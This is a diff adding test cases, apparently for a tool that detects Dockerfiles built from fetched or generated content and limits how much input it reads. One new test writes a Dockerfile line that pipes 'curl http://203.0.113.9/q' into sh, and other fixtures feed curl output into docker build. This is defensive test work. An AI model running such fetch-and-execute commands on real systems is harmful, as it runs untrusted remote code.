@@ -157,6 +157,14 @@ def test_so_many_things_are_kept_and_no_more() -> None:
             assert MOST >= max(len(flow.downloads), len(flow.decoders), len(flow.files))
 
 
+def test_programs_read_so_much_of_what_they_are_given_and_no_more() -> None:
+    edit = "a\nRUN curl http://203.0.113.9/q | sh\n.\n"
+    line = "bash -c 'ed D <<q\n{}q\ndocker build -f D .'"
+
+    assert facts(line.replace("{}", edit), limit=LARGEST)
+    assert not facts(line.replace("{}", edit + "w\n" * 40_000), limit=LARGEST)
+
+
 def test_so_many_texts_are_scored_and_no_more() -> None:
     """What is a finding only beyond the bound is not told."""
     plain = "".join(f"echo FROM a{number} | docker build -;" for number in range(MOST_TEXTS))
@@ -258,6 +266,20 @@ GROWING = {
     "sessions-entered": ("bash -c ftp h.example <<q\n{}\nq\ndocker build .", "lcd a\n"),
     "sessions-many-words": ("bash -c ftp h.example <<q\nmget {}\nq\ndocker build .", "a "),
     "sessions-opened": ("bash -c ftp h.example <<q\n{}\nq\ndocker build .", "open h "),
+    "edits-handed-on": ("bash -c echo '{}' | ed a; docker build .", "a|ed b"),
+    "code-literals": ("bash -c python3 -c '{}'; docker build .", 'open("abc","w") '),
+    "code-texts": ("bash -c python3 -c '{}' > D; docker build .", 'print("a b") '),
+    "code-open-literals": ("bash -c python3 -c 'write {}'; docker build .", '"\\"'),
+    "code-marks": ("bash -c python3 <<q\nwrite {}\nq\ndocker build .", "'`"),
+    "code-given": ("bash -c python3 <<q\n{}\nq\ndocker build .", "open('abc','w')\n"),
+    "code-handed-on": ("bash -c echo 'write {}' | python3; docker build .", "a|python3 "),
+    "code-arrows": ("bash -c awk '{}'; docker build .", ">   "),
+    "ps-lists": ("pwsh -c {} | Set-Content Dockerfile; docker build .", "'a',"),
+    "ps-list-values": ("pwsh -c Set-Content D {}; docker build .", "'a',"),
+    "ps-calls": ("pwsh -c [IO.File]::WriteAllText({}); docker build .", "'abc',"),
+    "cmd-files-before": ("cmd /c {} (echo a) & docker build .", ">a "),
+    "cmd-dots": ("cmd /c {}docker build .", "echo.a&"),
+    "here": ("bash -c docker build {}", "$PWD/"),
     "files": ("bash -c docker build {}", "-f <(curl a.b/c) "),
     "carried": ("bash -c X=$(curl a.b/c;a;a;a;a);{}", "echo $X|docker build -;"),
     "code": ("sh -c python3 -c '{}' | docker build -", "urlopen http://a.b/c "),
